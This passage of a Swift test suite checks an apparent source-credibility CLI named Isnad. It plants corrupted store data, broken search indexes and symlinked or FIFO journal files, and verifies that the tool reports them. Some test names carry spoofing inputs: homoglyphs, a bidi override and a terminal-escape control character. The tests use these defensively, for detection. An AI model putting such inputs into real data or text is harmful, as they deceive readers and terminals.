        #expect(try cli.run(["set", "hamas", "aliases[0]", "ar:حماس"]).status == 0)
        #expect(try cli.run(["check"]).status == 0)

        // edit opens on it, the stored problem heading the file, and saves the shortened name.
        try plant("UPDATE entity SET name = printf('%.600c', 'A') WHERE id = 'isis'", in: cli)
        let editor = try cli.write(
            "editor.sh", #"grep '^# error' "$1" > heading; sed -i 's/"AAAA*"/"Islamic State"/' "$1""#)
        let edit = try cli.run(["edit", "isis"], environment: ["EDITOR": "sh \(editor)", "VISUAL": ""])
        #expect(edit.status == 0, "\(edit.standardError)")
        #expect(
            try String(contentsOfFile: cli.path("heading"), encoding: .utf8).hasPrefix(
                "# error: as stored, name: 600 characters, more than the 500 a name may have"))
        #expect(try cli.run(["show", "isis"]).standardOutput.contains("Islamic State"))
        // What a record keeps for good is still refused before an editor opens.
        try plant("INSERT INTO entity_merged VALUES ('Not A Slug!', 'hamas', 0)", in: cli)
        let kept = try cli.run(["edit", "hamas"], environment: ["EDITOR": "touch opened &&", "VISUAL": ""])
        #expect(kept.status == 65, "\(kept.standardError)")
        #expect(!FileManager.default.fileExists(atPath: cli.path("opened")))
    }

    @Test("a store written by a newer Isnad is refused as data this isnad cannot read (65), and left alone")
    func newerStore() throws {
        let cli = try importedStore()
        let newer = Migrations.currentVersion + 1
        try plant("PRAGMA user_version = \(newer)", in: cli)
        let before = try files(of: cli)
        let result = try cli.run(["show", "hamas"])
        #expect(result.status == 65, "\(result.standardError)")
        #expect(result.standardError.contains("was written by a newer Isnad (schema version \(newer)"), "\(result.standardError)")
        #expect(try files(of: cli) == before)
        // Search keys of a newer folding are not made older behind the newer Isnad's back: this
        // one's search would miss names, its writes would mix two foldings.
        try plant(
            "PRAGMA user_version = \(Migrations.currentVersion); UPDATE meta SET value = '99' WHERE key = 'name_key_version'",
            in: cli)
        let keys = try files(of: cli)
        for arguments in [["search", "hamas"], ["set", "hamas", "description", "x"]] {
            let refused = try cli.run(arguments)
            #expect(refused.status == 65, "\(refused.standardError)")
            #expect(
                refused.standardError.contains(
                    "was written by a newer Isnad (its names are searched by keys of version 99; this isnad makes version"),
                "\(refused.standardError)")
        }
        #expect(try files(of: cli) == keys)
    }

    @Test("check follows a chain of transmission 300,000 sources long, with a stack of its own")
    func longChain() throws {
        let cli = try importedStore()
        try plant(
            """
            WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i < 299999)
            INSERT INTO source (id, type, title, reliability) SELECT 'chain-' || i, 'other', 'Link', 'C' FROM n;
            WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i < 299999)
            INSERT INTO source_cites (source, position, cited) SELECT 'chain-' || i, 0, 'chain-' || ((i + 1) % 300000) FROM n;
            """, in: cli)
        let check = try cli.run(["check"])
        #expect(check.status == 65, "\(check.standardError)")
        #expect(check.standardOutput.contains("FAIL cycles in chains of transmission: 1 problem"), "\(check.standardOutput)")
        #expect(check.standardOutput.contains("(299992 more)"))
    }

    @Test("check reports a chain of transmission planted deeper than weighing follows, at its top, on one line")
    func deepChain() throws {
        let cli = try importedStore()
        try plant(
            """
            WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i < 150)
            INSERT INTO source (id, type, title, reliability) SELECT 'deep-' || i, 'other', 'Link', 'C' FROM n;
            WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i < 149)
            INSERT INTO source_cites (source, position, cited) SELECT 'deep-' || i, 0, 'deep-' || (i + 1) FROM n;
            """, in: cli)
        let check = try cli.run(["check"])
        #expect(check.status == 65, "\(check.standardError)")
        #expect(
            check.standardOutput.contains(
                """
                FAIL chains of transmission deeper than weighing follows (100 cites steps): 1 problem
                       source "deep-0": is the top of a chain of transmission 150 cites steps deep (deep-0 → deep-1 → deep-2 → deep-3 → deep-4 → deep-5 → … (144 more) … → deep-150): weighing follows a chain 100 steps at most (a real chain of relays has a handful of links)

                """), "\(check.standardOutput)")
    }

    @Test("a search key planted in the store (another name's) is reported by check, with what mends it")
    func plantedSearchKey() throws {
        let cli = try importedStore()
        try plant(
            "UPDATE entity_name SET search_key = 'hamas', consonant_key = 'zbl' WHERE entity = 'isis' AND position = 0", in: cli)
        let check = try cli.run(["check"])
        let output = check.standardOutput
        #expect(check.status == 65)
        #expect(output.contains("FAIL search keys and index entries that are not their names' own: 1 problem"), "\(output)")
        #expect(
            output.contains(
                "entity \"isis\" name: \"Islamic State\" is searched for by keys that are not its own (another program wrote them): search may take another name for it; isnad reindex writes them again from the names"
            ), "\(output)")
        try expectReindexMends(cli, changed: "wrote the search keys of 1 name again")
    }

    /// `isnad reindex` mends what check found, changes no record and writes no history entry.
    private func expectReindexMends(_ cli: CLIHarness, changed: String) throws {
        let records = try cli.run(["export", "jsonl", "--include-retracted"]).standardOutput
        let history = try cli.run(["log"]).standardOutput
        let reindex = try cli.run(["reindex"])
        #expect(reindex.status == 0, "\(reindex.standardError)")
        #expect(reindex.standardError.hasPrefix(changed), "\(reindex.standardError)")
        #expect(reindex.standardError.hasSuffix(" in all); the name search index was built again\n"), "\(reindex.standardError)")
        let check = try cli.run(["check"])
        #expect(check.status == 0, "\(check.standardOutput)")
        #expect(try cli.run(["export", "jsonl", "--include-retracted"]).standardOutput == records)
        #expect(try cli.run(["log"]).standardOutput == history)
        #expect(try cli.run(["search", "Islamic State", "--format", "csv"]).standardOutput.contains("isis,"))
    }

    @Test(
        "a name search index another program changed (a name's entries taken out, another's rewritten, entries of no name) is reported by check"
    )
    func damagedSearchIndex() throws {
        let cli = try importedStore()
        // FTS5's own commands, as a program writing to the store's index directly would use them:
        // the triggers that keep it in step with the names are never involved.
        try plant(
            """
            INSERT INTO entity_name_search (entity_name_search, rowid, search_key)
                SELECT 'delete', rowid, search_key FROM entity_name WHERE entity = 'isis' AND position = 0;
            INSERT INTO entity_name_search (entity_name_search, rowid, search_key)
                SELECT 'delete', rowid, search_key FROM entity_name WHERE entity = 'hamas' AND position = 0;
            INSERT INTO entity_name_search (rowid, search_key)
                SELECT rowid, 'hezb' FROM entity_name WHERE entity = 'hamas' AND position = 0;
            INSERT INTO entity_name_search (rowid, search_key) VALUES (999999, 'planted');
            """, in: cli)
        let check = try cli.run(["check"])
        let output = check.standardOutput
        #expect(check.status == 65, "\(check.standardError)")
        #expect(output.contains("FAIL search keys and index entries that are not their names' own: 3 problems"), "\(output)")
        #expect(
            output.contains("entity \"isis\" name: \"Islamic State\" is not in the name search index as its key is"), "\(output)")
        #expect(output.contains("entity \"hamas\" name: \"Hamas\" is not in the name search index as its key is"), "\(output)")
        #expect(output.contains("store: the name search index holds 5 entries of names that are not in the store"), "\(output)")
        #expect(output.contains("ok   SQLite integrity: ok"), "SQLite's own check reads the index's pages, not what they hold")
        try expectReindexMends(cli, changed: "every name's search keys were its own")
    }

    @Test("every name taken out of the name search index: the first ten are named, the others counted")
    func searchIndexEmptied() throws {
        let cli = try importedStore()
        // Thirteen names in all: the store's eight and these five.
        try cli.write(
            "more.jsonl",
            (0..<5).map { #"{"record":"entity","id":"extra-\#($0)","type":"organization","name":"Extra \#($0)"}"# }
                .joined(separator: "\n") + "\n")
        #expect(try cli.run(["import", "more.jsonl"]).status == 0)
        try plant(
            """
            INSERT INTO entity_name_search (entity_name_search, rowid, search_key)
                SELECT 'delete', rowid, search_key FROM entity_name WHERE length(search_key) >= 3;
            """, in: cli)
        let output = try cli.run(["check"]).standardOutput
        let named = output.components(separatedBy: "is not in the name search index as its key is").count - 1
        #expect(named == 10, "\(output)")
        #expect(output.contains("FAIL search keys and index entries that are not their names' own: 11 problems"), "\(output)")
        #expect(
            output.range(
                of: #"store: and [0-9]+ more names not in the name search index as their keys are"#, options: .regularExpression)
                != nil, "\(output)")
    }

    @Test("a name search index whose pages were taken out is reported by check, not thrown as its error")
    func unreadableSearchIndex() throws {
        let cli = try importedStore()
        try plant("DELETE FROM entity_name_search_data WHERE id > 1", in: cli)
        let check = try cli.run(["check"])
        #expect(check.status == 65, "\(check.standardError)")
        #expect(
            check.standardOutput.contains(
                "store: the name search index cannot be read (database disk image is malformed): search fails or misses names"),
            "\(check.standardOutput)")
        #expect(check.standardOutput.contains("ok   credibility 1 (confirmed)"), "the checks after it still run")
    }

    @Test(
        "a name search index whose terms, configuration or structure another program changed is reported by check, the checks after it run, many names are counted",
        arguments: [
            (
                "UPDATE entity_name_search_config SET v = 99 WHERE k = 'version'",
                "store: the name search index cannot be read (no such fts5 table: main.entity_name_search)"
            ),
            ("UPDATE entity_name_search_data SET block = x'' WHERE id = 10", "is not in the name search index as its key is"),
        ])
    func changedSearchIndex(sql: String, finding: String) throws {
        let cli = try importedStore()
        try plant(sql, in: cli)
        let check = try cli.run(["check"])
        #expect(check.status == 65, "\(check.standardError)")
        #expect(check.standardOutput.contains(finding), "\(check.standardOutput)")
        #expect(check.standardOutput.contains("ok   credibility 1 (confirmed)"), "the checks after it still run")
        // Counted by the finding's lines, not the report's: each new check adds a line of its own.
        #expect(
            check.standardOutput.split(separator: "\n").count { $0.contains("not in the name search index") } <= 10,
            "a line per name, ten at most: \(check.standardOutput)")
    }

    @Test("a name search index whose term index was emptied (its entries sound) is found by looking names up")
    func emptiedTermIndex() throws {
        let cli = try CLIHarness.scoped
        let dataset = Repository.root.appendingPathComponent("Datasets/hadera-2022/hadera-2022.jsonl").path
        #expect(try cli.run(["import", dataset]).status == 0)
        try plant("DELETE FROM entity_name_search_idx", in: cli)
        let check = try cli.run(["check"])
        #expect(check.status == 65, "\(check.standardError)")
        #expect(
            check.standardOutput.contains(
                "names looked up by their own keys (its terms were changed or damaged): search misses names"),
            "\(check.standardOutput)")
    }

    @Test("names the trigram index folds otherwise than Isnad (Greek's final sigma, Turkish dotted I) pass check")
    func searchIndexFoldsOtherwise() throws {
        let cli = try CLIHarness.scoped
        try cli.write(
            "names.jsonl",
            """
            {"record":"entity","id":"sisyphos","type":"person","name":"Σίσυφος","aliases":[{"name":"ΣΊΣΥΦΟΣ","lang":"el"}]}
            {"record":"entity","id":"istanbul","type":"place","name":"İstanbul","aliases":[{"name":"Straße ǅemal ﬁsh","lang":"de"}]}
            """)
        #expect(try cli.run(["import", "names.jsonl"]).status == 0)
        let check = try cli.run(["check"])
        #expect(
            check.standardOutput.contains("ok   search keys and index entries that are not their names' own: ok"),
            "\(check.standardOutput)")
    }

    @Test(
        "check holds records against their history: a stance changed with sqlite3 is named; a copy without history says it has none; one without retractions, what it left out"
    )
    func recordsAgainstHistory() throws {
        let cli = try importedStore()
        #expect(try cli.run(["set", "isis-claimed-attack", "citations[0].stance", "reports"]).status == 0)
        #expect(try cli.run(["retract", "hamas-praised-attack", "--reason", "wrong attack"]).status == 0)
        #expect(try cli.run(["check"]).status == 0)
        #expect(try cli.run(["copy", "--without-history", "isnad.db", "bare.db"]).status == 0)
        let bare = try cli.run(["--db", "bare.db", "check"])
        #expect(bare.status == 0)
        #expect(
            bare.standardOutput.contains(
                "ok   records not as their history left them: ok\n       (the store keeps no history of its own: a copy made without it, or a store from before it; nothing to hold its records against)\n"
            ), "\(bare.standardOutput)")
        // A store whose only history came from another store's is neither.
        let exported = try cli.run(["export", "history"])
        try cli.write("history.jsonl", exported.standardOutput)
        #expect(try cli.run(["--db", "bare.db", "import", "--from", "history", "history.jsonl"]).status == 0)
        let imported = try cli.run(["--db", "bare.db", "check"])
        #expect(
            imported.standardOutput.contains(
                "(the store keeps no history of its own: only entries imported from another store's; nothing to hold its records against)\n"
            ), "\(imported.standardOutput)")
        #expect(try cli.run(["copy", "--without-retractions", "isnad.db", "unretracted.db"]).status == 0)
        #expect(
            try cli.run(["--db", "unretracted.db", "check"]).standardOutput.contains(
                #"claim "hamas-praised-attack": the store does not hold it; history entry 3 left it retracted — deleted outside Isnad, or a copy made --without-retractions?"#
            ))
        try plant("UPDATE citation SET stance = 'denies' WHERE claim = 'isis-claimed-attack';", in: cli)
        let check = try cli.run(["check"])
        #expect(check.status == 65)
        #expect(
            check.standardOutput.contains(
                #"""
                FAIL records not as their history left them: 1 problem
                       claim "isis-claimed-attack": citations[0].stance is "denies" in the store; history entry 2 left it "reports" — changed outside Isnad? (isnad log isis-claimed-attack shows its entries; isnad set puts a value back)
                """#), "\(check.standardOutput)")
    }

    @Test("check reports look-alike names; search folds compatibility forms; doubled digits are not folded")
    func lookAlikeNames() throws {
        let cli = try CLIHarness.scoped
        try cli.write(
            "names.jsonl",
            """
            {"record":"entity","id":"hamas","type":"organization","name":"Hamas"}
            {"record":"entity","id":"cyrillic","type":"organization","name":"H\u{0430}mas movement"}
            {"record":"entity","id":"zero-width","type":"organization","name":"Ha\u{200B}mas"}
            {"record":"entity","id":"fullwidth","type":"organization","name":"Ｈａｍａｓ Front"}
            {"record":"entity","id":"person-1","type":"person","name":"Person 1"}
            {"record":"entity","id":"person-11","type":"person","name":"Person 11"}
            {"record":"entity","id":"person-1111","type":"person","name":"Person 1111"}
            {"record":"entity","id":"reversed","type":"person","name":"Bob\\u202Eevil"}
            {"record":"entity","id":"isolated","type":"person","name":"Zed","aliases":[{"name":"حماس\\u2066","lang":"ar"}]}
            {"record":"entity","id":"c1","type":"person","name":"Evil\\u009B2J"}
            {"record":"entity","id":"spaced","type":"person","name":" Spaced "}

            """)
        #expect(try cli.run(["import", "names.jsonl"]).status == 0)
        // An import reads a name without the spaces around it; another program may write them.
        #expect(try cli.run(["export", "jsonl"]).standardOutput.contains(#""id":"spaced","type":"person","name":"Spaced""#))
        try plant("UPDATE entity_name SET name = ' Spaced ' WHERE entity = 'spaced' AND position = 0", in: cli)
        let check = try cli.run(["check"])
        #expect(check.status == 65)
        let output = check.standardOutput
        #expect(
            output.contains(
                "entity \"cyrillic\" name: \"Hаmas movement\" mixes Cyrillic and Latin letters in the word \"Hаmas\""),
            "\(output)")
        #expect(
            output.contains("entity \"zero-width\" name: \"Ha\u{200B}mas\" contains the invisible character U+200B"), "\(output)")
        #expect(output.contains("entity \"fullwidth\" name: \"Ｈａｍａｓ Front\" is written in compatibility forms"), "\(output)")
        #expect(!output.contains("person-11"), "\(output)")
        for (id, problem) in [
            ("reversed", "contains the directional control U+202E"), ("isolated", "contains the directional control U+2066"),
            ("c1", "contains the control character U+009B"), ("spaced", "starts or ends with a space"),
        ] {
            #expect(
                output.split(separator: "\n").contains { $0.contains("entity \"\(id)\"") && $0.contains(problem) }, "\(output)")
        }
        let search = try cli.run(["search", "Ｈａｍａｓ"])
        #expect(search.status == 0, "\(search.standardError)")
        #expect(search.standardOutput.contains("hamas"), "\(search.standardOutput)")
        #expect(try cli.run(["search", "Hamas"]).standardOutput.contains("fullwidth"))
        // A change that writes the record back writes its name as an import reads it, and says so.
        try plant("UPDATE entity SET name = ' Spaced ' WHERE id = 'spaced'", in: cli)
        let set = try cli.run(["set", "spaced", "description", "found"])
        #expect(set.status == 0, "\(set.standardError)")
        #expect(
            set.standardError.hasSuffix("; name too, as an import reads it: isnad log spaced shows how\n"), "\(set.standardError)"
        )
        #expect(try cli.run(["log", "spaced"]).standardOutput.contains(#"name: " Spaced " → "Spaced""#))
        let again = try cli.run(["set", "spaced", "description", "found again"])
        #expect(!again.standardError.contains("as an import reads"), "\(again.standardError)")
    }

    @Test("--db naming a folder, a FIFO or :memory: is refused with a message, not a hang or a store that keeps nothing")
    func notAStoreFile() throws {
        let cli = try CLIHarness.scoped
        try FileManager.default.createDirectory(atPath: cli.path("folder.db"), withIntermediateDirectories: false)
        let folder = try cli.run(["--db", "folder.db", "show", "hamas"])
        #expect(folder.status == 66)
        #expect(folder.standardError == "isnad: folder.db is a folder, not a store file (name a store file with --db)\n")
        try cli.write("records.jsonl", CoreCommandTests.records)
        #expect(mkfifo(cli.path("pipe.db"), 0o600) == 0)
        let fifo = try cli.run(["--db", "pipe.db", "import", "records.jsonl"])
        #expect(fifo.status == 66)
        #expect(fifo.standardError == "isnad: pipe.db is a FIFO (named pipe), not a store file (name a store file with --db)\n")
        for path in [":memory:", ""] {
            let memory = try cli.run(["--db", path, "import", "records.jsonl"])
            #expect(memory.status == 64, "\(memory.standardError)")
            #expect(memory.standardError.hasPrefix("isnad: --db"), "\(memory.standardError)")
        }
        #expect(
            try FileManager.default.contentsOfDirectory(atPath: cli.directory.path).sorted() == [
                "folder.db", "pipe.db", "records.jsonl",
            ])
    }

    @Test("a store whose -wal, -shm or -journal is a link, a FIFO or a folder is refused, not hung on or written through")
    func companionNotAFile() throws {
        let cli = try importedStore()
        let files = FileManager.default
        let other = cli.path("other.db")
        try files.copyItem(atPath: cli.path("isnad.db"), toPath: other)
        let before = try Data(contentsOf: URL(fileURLWithPath: other))
        for suffix in ["-wal", "-shm", "-journal"] {
            let companion = cli.path("isnad.db" + suffix)
            for kind in ["a symbolic link", "a FIFO (named pipe)", "a folder"] {
                try? files.removeItem(atPath: companion)
                switch kind {
                case "a symbolic link": try files.createSymbolicLink(atPath: companion, withDestinationPath: other)
                case "a folder": try files.createDirectory(atPath: companion, withIntermediateDirectories: false)
                default: #expect(mkfifo(companion, 0o600) == 0)
                }
                for command in [["show", "hamas"], ["add", "entity", "--id", "x", "--type", "person", "--name", "X"]] {
                    let result = try cli.run(command)
                    #expect(result.status == 66, "\(suffix) \(kind): \(result.standardError)")
                    #expect(
                        result.standardError
                            == "isnad: isnad.db cannot be opened: isnad.db\(suffix) is \(kind), where SQLite keeps the store's log, index or journal as a file of its own; it would wait, fail or write through it: move it away\n"
                    )
                }
            }
            try files.removeItem(atPath: companion)
        }
        #expect(try Data(contentsOf: URL(fileURLWithPath: other)) == before)
        #expect(try cli.run(["show", "hamas"]).status == 0)
    }
}
